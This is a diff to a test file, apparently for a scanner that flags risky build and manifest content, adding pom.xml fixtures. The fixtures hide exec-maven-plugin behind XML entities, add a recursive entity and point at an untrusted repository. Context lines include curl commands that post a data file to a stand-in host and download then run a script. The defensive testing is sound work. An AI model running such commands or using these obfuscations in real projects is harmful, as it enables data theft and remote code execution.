@@ -60,6 +60,13 @@ const ELSEWHERE: [rule: string, path: string, text: string][] = [
     "pom.xml",
     '<!DOCTYPE p [<!ENTITY x "&#60;artifactId>exec-maven-plugin&#60;/artifactId>">]><p>&x;</p>',
   ],
+  [
+    "install-script",
+    "pom.xml",
+    '<!DOCTYPE p [<!ENTITY b "exec-maven-plugin"><!ENTITY a "&b;">]><artifactId>&a;</artifactId>',
+  ],
+  ["registry", "pom.xml", "<repository><releases/><url>https://badplace.io/m</url></repository>"],
+  ["unreadable", "pom.xml", '<!DOCTYPE p [<!ENTITY a "&b;"><!ENTITY b "&a;">]><p>&a;</p>'],
   ["unknown-host", "bin/a.sh", "curl -e example.com -d @data badplace.io"],
   ["remote-code", "bin/a.sh", "curl -s https://example.com/a -o a.log -o b.sh\n./b.sh"],
   ["install-script", "a.gemspec", "spec.extensions << 'ext/extconf.rb'"],
@@ -97,6 +104,14 @@ test.each([
   [
     "pom.xml",
     "<project><url>https://left.dev</url><scm><url>https://left.dev/git</url></scm></project>",
+  ],
+  [
+    "pom.xml",
+    '<!DOCTYPE p [<!ENTITY v "1"><!ENTITY w "&v;.2">]><p><version>&w;</version><a>&lt;</a></p>',
+  ],
+  [
+    "pom.xml",
+    "<p><repository/><distributionManagement><repository /></distributionManagement><url>https://left.dev</url></p>",
   ],
   ["build.gradle.kts", 'repositories { mavenCentral() }\ndependencies { implementation("a:b:1") }'],
   ["package.json", '{"homepage":"https://left.dev","scripts":{"prepublishOnly":"pnpm build"}}'],
